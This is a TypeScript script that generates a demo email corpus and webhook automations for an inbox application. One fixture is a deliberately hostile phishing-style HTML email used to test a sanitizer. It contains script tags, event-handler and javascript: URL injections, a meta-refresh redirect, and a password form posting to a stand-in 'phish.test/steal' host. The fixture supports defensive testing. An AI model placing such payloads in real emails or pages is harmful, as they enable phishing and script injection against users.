/**
 * Writes the demo corpus (resources/demo/mail/*.eml) with a real MIME composer.
 * Run: node resources/demo/generate.ts   (the output is committed; rerun after edits)
 */
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import nodemailer from 'nodemailer';
import type Mail from 'nodemailer/lib/mailer';

const out = join(import.meta.dirname, 'mail');
const start = Date.UTC(2026, 10, 1, 8, 0, 0);
const at = (hours: number) => new Date(start + hours * 3_600_000);

const inboxes = {
  support: { name: 'Support', address: 'support@acme.test' },
  billing: { name: 'Billing', address: 'billing@acme.test' },
  ops: { name: 'Ops alerts', address: 'ops@acme.test' },
  hello: { name: 'Hello', address: 'hello@acme.test' },
};

const customers = [
  { name: 'Ana García', address: 'ana.garcia@example.es' },
  { name: 'Jürgen Müller', address: 'juergen@beispiel.de' },
  { name: '山田 太郎', address: 'taro.yamada@example.jp' },
  { name: 'Chloé Dubois', address: 'chloe@exemple.fr' },
  { name: 'Sam Patel', address: 'sam.patel@example.com' },
  { name: 'Olu Adeyemi', address: 'olu@example.ng' },
];
const customer = (i: number) => customers[i % customers.length]!;

const messages: Mail.Options[] = [];
const add = (message: Mail.Options) =>
  messages.push({ ...message, messageId: `<demo-${messages.length + 1}@acme.test>`, headers: { 'X-Demo': 'inbox-desk' } });

// Automations the demo team starts with (webhooks point nowhere useful: edit them).
const automations = [
  { title: 'Forward invoices to accounting', inbox: 'billing@acme.test', subject: '^Invoice', has_attachments: true,
    action_url: 'http://127.0.0.1:9/hooks/invoices', action_secret_token: 'demo-secret', payload_format: 'json' },
  { title: 'Page on critical alerts', sender: 'alerts@monitor.test', subject: 'CRITICAL',
    action_url: 'http://127.0.0.1:9/hooks/pager', payload_format: 'json_with_bodies' },
  { title: 'Archive newsletters', sender: 'news@digest.test', action_url: 'http://127.0.0.1:9/hooks/archive',
    payload_format: 'raw', action_delete_email: true },
];

// Support conversations: text and HTML alternatives, some with carbon copies.
const topics = [
  'Cannot log in after password reset',
  'Export to CSV cuts off long names',
  'Feature request: dark mode',
  'Two-factor codes arrive late',
  'Invoice address change',
  'API returns 429 during nightly sync',
  'Thanks for the quick fix!',
  'Webhook retries: how many?',
];
topics.forEach((topic, i) => {
  add({
    from: customer(i),
    to: inboxes.support,
    cc: i % 3 === 0 ? [{ name: 'Account manager', address: 'am@acme.test' }] : undefined,
    subject: topic,
    date: at(i * 7 + 1),
    text: `Hello,\n\n${topic}. Details follow.\n\nSteps:\n1. Open the app\n2. Try again\n\nRegards,\n${customer(i).name}\n`,
    html: `<p>Hello,</p><p><strong>${topic}</strong>. Details follow.</p><ol><li>Open the app</li><li>Try again</li></ol><p>Regards,<br>${customer(i).name}</p>`,
  });
});

// Text-only mail, with non-ASCII subjects and bodies.
const textOnly: [string, string][] = [
  ['Réunion de lundi : ordre du jour', 'Bonjour à tous,\n\nVoici l’ordre du jour : budget, équipe, café.\n'],
  ['Frage zur Rechnung Nr. 4711 – Überweisung', 'Guten Tag,\n\ndie Überweisung über 1.234,56 € ist erfolgt.\n'],
  ['お問い合わせ：請求書について', 'こんにちは。\n請求書の件でご連絡しました。よろしくお願いします。\n'],
  ['Quick question', 'Is the status page up to date? Thanks.\n'],
  ['Emoji test 🎉 launch day', 'We shipped! 🚀🚀🚀\n'],
  ['Долгий ответ', 'Здравствуйте! Спасибо за ответ.\n'],
];
textOnly.forEach(([subject, text], i) => {
  add({ from: customer(i + 2), to: inboxes.hello, subject, date: at(60 + i * 5), text });
});

// HTML-only mail.
for (let i = 0; i < 4; i++) {
  add({
    from: { name: 'Product team', address: 'product@vendor.test' },
    to: inboxes.hello,
    subject: `Release notes ${i + 1}.0`,
    date: at(95 + i * 11),
    html: `<h1>Release ${i + 1}.0</h1><ul><li>Faster search</li><li>Fewer clicks</li></ul><table border="1"><tr><th>Area</th><th>Change</th></tr><tr><td>Inbox</td><td>Keyboard triage</td></tr></table>`,
  });
}

// Billing: attachments of several types.
const pdf = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const csv = Buffer.from('date,amount,currency\n2026-11-01,120.00,EUR\n2026-11-02,80.50,EUR\n');
for (let i = 0; i < 6; i++) {
  add({
    from: { name: 'Accounts payable', address: `ap${i}@supplier.test` },
    to: inboxes.billing,
    subject: `Invoice INV-2026-${1000 + i}`,
    date: at(130 + i * 9),
    text: `Please find invoice INV-2026-${1000 + i} attached.\n`,
    attachments: [
      { filename: `INV-2026-${1000 + i}.pdf`, content: pdf, contentType: 'application/pdf' },
      ...(i % 2 === 0 ? [{ filename: 'statement.csv', content: csv, contentType: 'text/csv' }] : []),
      ...(i === 1 ? [{ filename: 'logo.png', content: png, contentType: 'image/png' }] : []),
      ...(i === 3 ? [{ filename: 'Überweisung März.txt', content: 'Betrag: 10 €\n', contentType: 'text/plain' }] : []),
    ],
  });
}

// Ops alerts: short machine mail.
for (let i = 0; i < 8; i++) {
  add({
    from: { name: 'Monitoring', address: 'alerts@monitor.test' },
    to: inboxes.ops,
    subject: `[${i % 3 === 0 ? 'CRITICAL' : 'WARNING'}] disk usage ${80 + i}% on db-${i % 3}`,
    date: at(180 + i * 4),
    text: `Host db-${i % 3} reports disk usage at ${80 + i}%.\n`,
  });
}

// A newsletter with remote images and a tracking pixel.
add({
  from: { name: 'The Weekly Digest', address: 'news@digest.test' },
  to: inboxes.hello,
  subject: 'This week: 10 tips for a calmer inbox',
  date: at(230),
  text: 'Read online: https://digest.test/issue/42\n',
  html: `<div style="font-family:sans-serif"><img src="https://cdn.digest.test/banner.png" alt="Weekly Digest banner" width="600">
<h2>10 tips for a calmer inbox</h2><p>Tip 1: triage with the keyboard. <a href="https://digest.test/tips?utm_source=mail">Read more</a></p>
<p style="background-image:url('https://cdn.digest.test/bg.png')">Sponsored</p>
<img src="https://track.digest.test/open.gif?u=123" width="1" height="1" alt=""></div>`,
});

// A large message (about 2 MB of attachment).
add({
  from: customer(4),
  to: inboxes.support,
  subject: 'Logs from the crash (large)',
  date: at(240),
  text: 'Full logs attached.\n',
  attachments: [{ filename: 'app.log', content: 'INFO all good\n'.repeat(150_000), contentType: 'text/plain' }],
});

// Hostile HTML: everything a sanitizer must remove or neutralise.
add({
  from: { name: 'Totally Legit Bank', address: 'security@phish.test' },
  to: inboxes.support,
  subject: 'Urgent: verify your account',
  date: at(250),
  html: `<html><head><meta http-equiv="refresh" content="0;url=https://phish.test/"><base href="https://phish.test/">
<style>body{background:url(https://phish.test/css-bg.png)} @import url(https://phish.test/evil.css);</style></head>
<body onload="alert('onload')"><script>window.__pwned = true; alert('script')</script>
<p>Please <a href="javascript:alert('js-url')">verify here</a> or <a href="https://phish.test/login" target="_blank">here</a>.</p>
<img src="x" onerror="window.__pwned = true">
<form action="https://phish.test/steal" method="post"><input name="password" type="password"><button>Log in</button></form>
<iframe src="https://phish.test/frame"></iframe><object data="https://phish.test/x.swf"></object>
<svg><script>window.__pwned = true</script></svg><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
</body></html>`,
  text: 'Please verify your account at https://phish.test/login\n',
});

// Follow-ups with several carbon copies.
for (let i = 0; i < 6; i++) {
  add({
    from: customer(i + 1),
    to: i % 2 === 0 ? inboxes.support : inboxes.hello,
    cc: [
      { name: 'Team lead', address: 'lead@acme.test' },
      { name: 'Ünïcode Person', address: 'unicode@acme.test' },
    ],
    subject: `Follow-up #${i + 1}: meeting notes`,
    date: at(260 + i * 6),
    text: `Notes from meeting ${i + 1}.\n- Item A\n- Item B\n`,
    html: `<p>Notes from meeting ${i + 1}.</p><ul><li>Item A</li><li>Item B</li></ul>`,
  });
}

const composer = nodemailer.createTransport({ streamTransport: true, buffer: true, newline: 'unix' });
await rm(out, { recursive: true, force: true });
await mkdir(out, { recursive: true });
let n = 0;
for (const message of messages) {
  n += 1;
  const info = await composer.sendMail(message);
  await writeFile(join(out, `${String(n).padStart(3, '0')}.eml`), info.message as Buffer);
}
await writeFile(join(out, 'automations.json'), `${JSON.stringify(automations, null, 2)}\n`);
console.log(`wrote ${n} messages and ${automations.length} automations to ${out}`);
